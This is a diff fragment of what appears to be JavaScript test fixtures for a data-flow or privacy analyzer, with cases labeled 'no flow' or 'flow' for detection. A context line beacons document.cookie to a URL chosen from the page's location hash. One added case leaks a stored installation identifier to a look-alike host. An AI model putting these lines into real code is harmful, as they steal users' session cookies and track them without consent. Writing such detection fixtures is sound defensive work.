@@ -30,3 +30,14 @@ const SETTINGS = { mirror: './5.29.0/collect', authority: 'https://login.nmo14.e
 const setting = (name) => SETTINGS[name];
 navigator.sendBeacon(setting(location.hash.slice(1)), document.cookie);
 
+//# version-of-a-stored-record
+// no flow
+// why: which version of its settings is kept says nothing of the person
+const saved = () => JSON.parse(localStorage.getItem('remote-settings') || '{}');
+fetch('https://settings.mo14.example/v2/config?v=' + (saved().version || 0));
+
+//# near-version-of-a-stored-record
+// flow: identifier > nsettings.mo14.example via fetch
+const saved = () => JSON.parse(localStorage.getItem('remote-settings') || '{}');
+fetch('https://nsettings.mo14.example/v2/config?v=' + (saved().version || 0) + '&i=' + saved().installation);
+
